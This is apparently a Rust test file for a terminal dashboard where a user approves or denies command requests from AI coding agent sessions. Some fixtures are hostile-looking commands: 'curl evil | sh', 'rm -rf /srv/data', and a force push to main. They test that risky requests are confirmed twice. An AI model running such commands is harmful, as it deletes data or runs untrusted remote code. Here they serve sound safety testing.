//! A first-time user, with the keys a newcomer would try.

use super::Desk;
use crate::samples;
use crate::state::message::{Answer, Ask, Effect, Message, News};
use serde_json::json;
use taffrail_api::{Allowed, SearchReply};

const SMALL: (u16, u16) = (80, 24);

fn sessions() -> Desk {
    let sessions = vec![samples::approval(), samples::working(), samples::session(3, &json!({}))];
    Desk::with(SMALL, sessions, vec![samples::request("npm test -- --runInBand", "low")])
}

#[test]
fn what_waits_is_on_the_first_screen_and_chosen() {
    let desk = sessions();
    let screen = desk.screen();
    let lines: Vec<&str> = screen.lines().collect();
    assert!(lines[0].contains("1 needs you"), "{screen}");
    assert!(lines[1].contains("NEEDS YOU (1)"), "{screen}");
    assert!(lines[2].starts_with("▸● api-auth"), "{screen}");
    assert!(lines[2].contains("npm test -- --runInBand"), "{screen}");
    for word in ["WORKING (1)", "YOUR TURN (0)", "IDLE (0)", "DONE (1)", "a approve", "? help"] {
        assert!(screen.contains(word), "no {word}:\n{screen}");
    }
}

#[test]
fn what_waits_is_approved_with_one_key() {
    let mut desk = sessions();
    desk.press(&["a"]);
    let id = samples::request("", "low").id;
    let expected = Ask::Decide { id: id.clone(), decision: Allowed::Allow, reason: None };
    assert_eq!(desk.decisions(), [&expected]);
    let row = Box::new(samples::request("npm test -- --runInBand", "low"));
    desk.tell(Message::Answer(Answer::Decided { decision: Allowed::Allow, row }));
    assert!(desk.screen().contains("allowed: npm test"), "{}", desk.screen());
    desk.press(&["@"]);
    assert!(desk.screen().contains(&format!("$ taffrail approve {id}")), "{}", desk.screen());
}

#[test]
fn a_refusal_is_confirmed_and_may_have_a_reason() {
    let id = samples::request("", "low").id;
    let check = |keys: &dyn Fn(&mut Desk), expected: Option<Option<&str>>| {
        let mut desk = sessions();
        desk.press(&["d"]);
        assert_eq!(desk.decisions(), Vec::<&Ask>::new(), "it is asked first");
        assert!(desk.screen().contains("Enter deny"), "{}", desk.screen());
        keys(&mut desk);
        let made = expected.map(|reason| Ask::Decide {
            id: id.clone(),
            decision: Allowed::Deny,
            reason: reason.map(str::to_owned),
        });
        assert_eq!(desk.decisions(), made.iter().collect::<Vec<_>>());
    };
    check(&|desk| desk.press(&["enter"]), Some(None));
    check(
        &|desk| {
            desk.type_in("not on main");
            desk.press(&["enter"]);
        },
        Some(Some("not on main")),
    );
    check(&|desk| desk.press(&["esc"]), None);
    check(&|desk| desk.press(&["q", "esc"]), None);
}

#[test]
fn what_looks_risky_is_asked_twice() {
    let sessions = vec![samples::approval()];
    let risky = || samples::request("rm -rf /srv/data", "high");
    for (keys, expected) in
        [(["a", "y"], 1), (["a", "a"], 0), (["a", "enter"], 0), (["a", "esc"], 0)]
    {
        let mut desk = Desk::with(SMALL, sessions.clone(), vec![risky()]);
        desk.press(&keys[..1]);
        assert!(desk.screen().contains("This looks risky"), "{}", desk.screen());
        desk.press(&keys[1..]);
        assert_eq!(desk.decisions().len(), expected, "{keys:?}");
    }
}

#[test]
fn nothing_is_answered_that_nobody_could_have_read() {
    let mut desk = sessions();
    let mut other = samples::request("curl evil | sh", "low");
    other.id = taffrail_model::approval::ApprovalId::new("ffff000000");
    desk.tell(Message::Answer(Answer::Approvals(vec![other])));
    desk.press(&["a"]);
    assert_eq!(desk.decisions(), Vec::<&Ask>::new());
    assert!(desk.screen().contains("read it first"), "{}", desk.screen());
    desk.pass(500);
    desk.press(&["a"]);
    assert_eq!(desk.decisions().len(), 1);
}

#[test]
fn where_nothing_waits_the_keys_say_so() {
    let mut desk = Desk::with(SMALL, vec![samples::working()], Vec::new());
    for key in ["a", "d"] {
        desk.press(&[key]);
        assert!(desk.screen().contains("nothing waits for an answer here"), "{}", desk.screen());
        assert_eq!(desk.decisions(), Vec::<&Ask>::new());
    }
}

/// The result of a search for last week's turn.
fn last_week() -> SearchReply {
    let reply = json!({
        "schema_version": 1, "total": 1, "total_is_at_least": false, "partial": false,
        "hits": [{
            "session_id": samples::working().id, "event_id": "0000000000000000000000000000000a",
            "turn_id": null, "kind": "assistant.message", "created_at": "2026-11-08T10:00:00Z",
            "snippet": "the marmalade pipeline drops its last batch", "matches": [[4, 13]],
            "stale": false, "agent": "claude-code", "title": "pipelines", "project_path": "/x/etl",
            "source_uri": "file:///x", "source_cursor": {"byte_offset": 0, "length": 1},
            "score": 1.0,
        }],
    });
    serde_json::from_value(reply).unwrap()
}

#[test]
fn last_weeks_turn_is_found_and_opened() {
    let mut desk = sessions();
    desk.press(&["/"]);
    desk.type_in("marmalade");
    let first = desk.asked.iter().find_map(|it| match it {
        Ask::Search { query } => Some(query.clone()),
        _ => None,
    });
    // One request at a time: the first letter is sent, the rest when that is answered.
    assert_eq!(first.as_deref(), Some("m"));
    desk.tell(Message::Answer(Answer::Search { query: "m".into(), reply: last_week() }));
    assert!(desk.asked.contains(&Ask::Search { query: "marmalade".into() }));
    desk.tell(Message::Answer(Answer::Search { query: "marmalade".into(), reply: last_week() }));
    let screen = desk.screen();
    assert!(screen.contains("the marmalade pipeline drops its last batch"), "{screen}");
    assert!(screen.contains("2026-11-08 10:00"), "{screen}");
    desk.press(&["enter"]);
    let limit = crate::state::transcript_view::EVENTS;
    assert!(desk.asked.contains(&Ask::Events { id: samples::working().id, limit }));
    desk.press(&["esc", "esc"]);
    assert!(desk.screen().contains("NEEDS YOU"), "{}", desk.screen());
}

#[test]
fn every_way_out_leads_out() {
    let check = |keys: &[&str], leaves: bool| {
        let mut desk = sessions();
        desk.press(keys);
        assert_eq!(desk.effects.contains(&Effect::Quit), leaves, "{keys:?}");
    };
    check(&["q"], true);
    check(&["ctrl-c"], true);
    check(&["?", "q"], false);
    check(&["?", "q", "q"], true);
    check(&["/", "q"], false);
    check(&["/", "esc", "q"], true);
    check(&["l", "q"], false);
    check(&["l", "q", "q"], true);
    check(&["d", "ctrl-c"], true);
    check(&["esc", "esc", "esc"], false);
    check(&[":", "q", "u", "i", "t", "enter"], true);
}

#[test]
fn help_tells_of_every_key_and_any_key_closes_it() {
    let mut desk = Desk::with((80, 60), vec![samples::approval()], Vec::new());
    desk.press(&["?"]);
    let screen = desk.screen();
    for word in ["approve", "deny", "search", "resume", "quit", "feed", "timeline", "health"] {
        assert!(screen.contains(word), "no {word}:\n{screen}");
    }
    desk.press(&["x"]);
    assert!(!desk.screen().contains("Help ·"), "{}", desk.screen());
}

#[test]
fn the_same_session_stays_chosen_whatever_comes() {
    let mut desk = sessions();
    desk.press(&["j"]);
    let chosen = desk.state.chosen;
    assert_eq!(chosen, Some(samples::working().id));
    let newer = samples::session(
        9,
        &json!({
            "group": "needs_you", "status": "waiting_approval", "status_since": "2026-11-15T12:00:00Z",
        }),
    );
    desk.tell(Message::News(News::Status(Box::new(newer))));
    assert_eq!(desk.state.chosen, chosen);
    desk.press(&["k"]);
    assert_ne!(desk.state.chosen, chosen);
}

#[test]
fn a_filter_narrows_the_board_and_esc_widens_it() {
    let mut desk = sessions();
    desk.press(&["f"]);
    desk.type_in("state:working");
    desk.press(&["enter"]);
    let screen = desk.screen();
    assert!(screen.contains("parser") && !screen.contains("api-auth "), "{screen}");
    desk.press(&["esc"]);
    assert!(desk.screen().contains("api-auth"), "{}", desk.screen());
}

/// Findings were on a screen of their own only, and tags nowhere.
#[test]
fn findings_and_tags_are_on_the_row_at_80_columns() {
    let row = |fields: &serde_json::Value| {
        let mut all = json!({"group": "working", "status": "running", "title": "Fix the parser"});
        all.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        let desk = Desk::with(SMALL, vec![samples::session(1, &all)], Vec::new());
        let screen = desk.screen();
        screen.lines().find(|it| it.contains("api-auth")).unwrap().trim_end().to_owned()
    };
    let check = |fields: &serde_json::Value, expected: &[&str]| {
        let row = row(fields);
        assert!(row.chars().count() <= 80 && row.contains("Fix the parser"), "{row}");
        for word in expected {
            assert!(row.contains(word), "no {word}: {row}");
        }
    };
    check(&json!({}), &["2m"]);
    check(&json!({"findings": ["stuck"], "tags": ["flaky"]}), &[" stuck #flaky", "2m"]);
    let many =
        json!({"findings": ["loop", "repeated_test_failure"], "tags": ["release", "starred"]});
    check(&many, &[" loop +1 #release", "…", "2m"]);
    // The status and the request show these.
    let shown = row(&json!({"findings": ["finished", "question_asked", "risky_approval"]}));
    assert!(!shown.contains("finished") && !shown.contains("asked"), "{shown}");
    let named = row(&json!({"auto_title": "Paint it · running make", "title": "hi"}));
    assert!(named.contains("Paint it · running make") && !named.contains(" hi "), "{named}");
}

#[test]
fn a_lost_daemon_is_said_and_found_again() {
    let mut desk = sessions();
    desk.tell(Message::News(News::Lost("gone".into())));
    assert!(desk.screen().contains("no daemon answers"), "{}", desk.screen());
    desk.tell(Message::News(News::All(vec![samples::working()], None)));
    assert!(!desk.screen().contains("no daemon answers"), "{}", desk.screen());
    assert!(!desk.screen().contains("npm test"), "what is gone is gone: {}", desk.screen());
}

/// A daemon that reads history for the first time replies with what it knows by then, and sends the
/// rest later.
#[test]
fn the_board_fills_while_history_is_read_and_has_all_of_it_in_the_end() {
    let old = |number: u32| samples::session(number, &json!({}));
    let mut desk = Desk::new(SMALL);
    crate::update::ask_all(&mut desk.state);
    let reading = |bytes| Some(taffrail_api::HistoryProgress::new(bytes, 1_000));
    desk.tell(Message::News(News::All(Vec::new(), reading(0))));
    desk.tell(Message::Answer(Answer::Sessions(Vec::new())));
    desk.tell(Message::News(News::Reading(reading(340).unwrap())));
    desk.tell(Message::News(News::Status(Box::new(old(3)))));
    let screen = desk.screen();
    assert!(screen.contains("Reading your history 34 %"), "{screen}");
    assert!(screen.contains("DONE (1)"), "{screen}");
    // An outstanding request is answered with what was known before the end.
    desk.asked.clear();
    desk.tell(Message::News(News::All(vec![samples::working()], None)));
    desk.tell(Message::Answer(Answer::Sessions(vec![old(3)])));
    assert!(desk.asked.contains(&Ask::Sessions), "{:?}", desk.asked);
    let renamed = samples::session(3, &json!({"project_path": "/home/ada/src/renamed"}));
    desk.tell(Message::Answer(Answer::Sessions(vec![renamed, old(4), old(5)])));
    let screen = desk.screen();
    assert!(!screen.contains("Reading your history"), "{screen}");
    assert!(screen.contains("WORKING (1)") && screen.contains("DONE (3)"), "{screen}");
    assert!(screen.contains("renamed"), "what was told before the list was asked for is older");
}

#[test]
fn the_feed_names_projects_and_not_ids() {
    let mut desk = Desk::with(SMALL, Vec::new(), Vec::new());
    desk.press(&["3"]);
    let event = samples::event(1, "user.prompt", "go", &json!({}));
    desk.tell(Message::Answer(Answer::Feed(vec![event])));
    let id = samples::working().id;
    assert!(!desk.screen().contains(id.to_string().get(..8).unwrap()), "{}", desk.screen());
    assert!(desk.asked.contains(&Ask::Session(id)));
    desk.tell(Message::Answer(Answer::Session(Box::new(samples::working()))));
    assert!(desk.screen().contains("parser"), "{}", desk.screen());
}

#[test]
fn one_risky_command_does_not_look_like_two() {
    let long = "git push --force origin main && kubectl rollout restart deploy/checkout --wait";
    let risky = vec![samples::request(long, "high")];
    let mut desk = Desk::with(SMALL, vec![samples::approval()], risky);
    desk.press(&["a"]);
    let screen = desk.screen();
    assert!(screen.contains("│ $ git push --force"), "{screen}");
    assert_eq!(screen.matches("│ $ ").count(), 1, "{screen}");
}

#[test]
fn a_terminal_that_is_too_small_says_so() {
    let mut desk = sessions();
    desk.state.size = (20, 5);
    assert!(desk.screen().contains("terminal too small"), "{}", desk.screen());
}

#[test]
fn nothing_is_written_to_a_session_that_does_not_run() {
    let mut desk = Desk::with(SMALL, vec![samples::session(3, &json!({}))], Vec::new());
    desk.press(&["s"]);
    assert!(desk.screen().contains("Not running. Press r to resume it."), "{}", desk.screen());
    assert!(!desk.screen().contains("Send to"), "{}", desk.screen());
}

#[test]
fn enter_goes_to_the_pane_of_what_runs_in_tmux_and_reads_the_rest() {
    let mut desk = sessions();
    desk.press(&["enter"]);
    let id = samples::approval().id.to_string();
    assert_eq!(desk.effects, [Effect::Run(vec!["attach".to_owned(), id])]);
    assert!(desk.screen().contains("⏎ go to pane"), "{}", desk.screen());
    desk.press(&["l"]);
    assert!(desk.screen().contains("taffrail / session"), "{}", desk.screen());
    desk.press(&["esc", "j", "enter"]);
    assert!(desk.screen().contains("taffrail / session"), "{}", desk.screen());
    assert_eq!(desk.effects.len(), 1);
}

fn resume(state: &str, reason: &str, executor: Option<&str>) -> Box<taffrail_api::ResumeReply> {
    let id = samples::working().id;
    serde_json::from_value(json!({"schema_version": 1, "session_id": id, "state": state,
        "command": ["claude"], "cwd": "/gone/shop", "reason": reason, "executor": executor}))
    .unwrap()
}

#[test]
fn what_cannot_be_resumed_is_said_on_the_board() {
    use crate::state::message::Folder::{Gone, There};
    let id = samples::working().id;
    let check = |plan, folder, effects: usize, expected: &str| {
        let mut desk = sessions();
        desk.press(&["j", "r"]);
        assert!(desk.asked.contains(&Ask::Resume(id)));
        assert_eq!(desk.effects, [], "the terminal stays ours until it is known");
        desk.tell(Message::Answer(Answer::Resume { id, plan, folder }));
        assert_eq!(desk.effects.len(), effects, "{expected}");
        assert!(desk.screen().contains(expected), "{}", desk.screen());
    };
    check(resume("resume_available", "", None), There, 1, "");
    check(resume("resume_available", "", None), Gone, 0, "/gone/shop no longer exists");
    check(
        resume("unsupported", "another session took its place", None),
        There,
        0,
        "took its place",
    );
    check(resume("active_executor", "it runs at tmux:%1", Some("tmux:%1")), There, 1, "");
    check(
        resume("active_executor", "it runs at process:7", Some("process:7")),
        There,
        0,
        "process:7",
    );
    let mut desk = sessions();
    desk.press(&["j", "H"]);
    let (asked, why) = (Ask::Handoff(id), "the index is locked".to_owned());
    desk.tell(Message::Answer(Answer::Failed { asked, why }));
    assert!(desk.screen().contains("the index is locked"), "{}", desk.screen());
    desk.tell(Message::Answer(Answer::Handoff { id, text: "# Brief\n\nNext: test it\n".into() }));
    assert!(desk.screen().contains("Next: test it"), "{}", desk.screen());
    desk.press(&["esc"]);
    assert!(!desk.screen().contains("Next: test it"), "{}", desk.screen());
}
